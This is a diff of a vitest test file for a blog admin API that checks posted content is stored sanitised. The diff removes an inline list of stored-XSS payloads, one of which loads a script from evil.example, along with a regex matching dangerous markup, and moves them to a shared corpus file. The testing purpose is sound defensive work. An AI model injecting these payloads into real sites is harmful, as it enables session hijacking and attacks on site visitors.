@@ -2,50 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../../test/app.ts';
 import { createAccount, signIn } from '../../test/admins.ts';
 import { testDatabaseKinds } from '../../test/database.ts';
-
-/** Stored XSS attempts an editor (or a stolen session) might paste into a post. */
-export const XSS_PAYLOADS = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<body onload=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<p onclick="alert(1)">click</p>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<div onmouseover="alert(1)">x</div>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<form action="javascript:alert(1)"><button>x</button></form>',
-  '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel=stylesheet href=javascript:alert(1)>',
-  '<base href="javascript:alert(1)//">',
-  '<style>@import "javascript:alert(1)";</style>',
-  '"><script>alert(1)</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x:alert(1) onerror=eval(src)>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-];
-
-/** What must never survive sanitising. */
-export const DANGEROUS =
-  /<script|<iframe|<object|<embed|<svg|<style|<meta|<link|<base|<form|<input|\son\w+\s*=|javascript:|vbscript:|data:text\/html/i;
+import { findUnsafeMarkup, XSS_PAYLOADS } from '../../test/xss-corpus.ts';
 
 describe.each(testDatabaseKinds)('blog management API on %s', (kind) => {
   let t: TestApp;
@@ -117,7 +74,7 @@ describe.each(testDatabaseKinds)('blog management API on %s', (kind) => {
   });
 
   it('stores every one of the XSS payloads sanitised', async () => {
-    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(30);
+    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(60);
     for (const [n, payload] of XSS_PAYLOADS.entries()) {
       const response = await send('POST', '/api/admin/blog/posts', {
         title_en: `Probe ${n}`,
@@ -130,8 +87,8 @@ describe.each(testDatabaseKinds)('blog management API on %s', (kind) => {
         .select(['content_en', 'content_ar'])
         .where('id', '=', response.json().post.id)
         .executeTakeFirstOrThrow();
-      expect(stored.content_en, payload).not.toMatch(DANGEROUS);
-      expect(stored.content_ar, payload).not.toMatch(DANGEROUS);
+      expect(findUnsafeMarkup(stored.content_en), payload).toEqual([]);
+      expect(findUnsafeMarkup(stored.content_ar), payload).toEqual([]);
       expect(stored.content_en).toContain('<p>before</p>');
     }
   });
